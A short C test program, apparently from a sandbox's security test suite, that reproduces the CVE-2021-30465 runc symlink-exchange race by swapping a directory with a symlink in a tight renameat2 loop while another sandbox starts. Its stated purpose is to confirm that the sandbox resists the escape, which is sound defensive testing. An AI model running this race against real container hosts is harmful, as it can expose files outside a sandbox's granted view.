// SPDX-License-Identifier: Apache-2.0
// Tries:      to be granted more: swaps the directory `data` of a writable tree with a symbolic link out of it, over and over,
//             while others start with a policy that grants `data`.
// Known from: CVE-2021-30465 (runc).
// Must:       make the other's start fail at worst; what the link leads to is never in its view.
// Control:    none: the other sandbox's view is what is looked at
// Argument:   the tree, which has `data` and `link`
#include "attack.h"

int main(int argc, char **argv) {
  if (argc != 2 || chdir(argv[1])) untried("no directory");
  puts("swapping");
  fflush(stdout);
  for (;;) {
    if (renameat2(AT_FDCWD, "data", AT_FDCWD, "link", RENAME_EXCHANGE)) untried("exchange: %s", strerror(errno));
    usleep(200);
  }
}
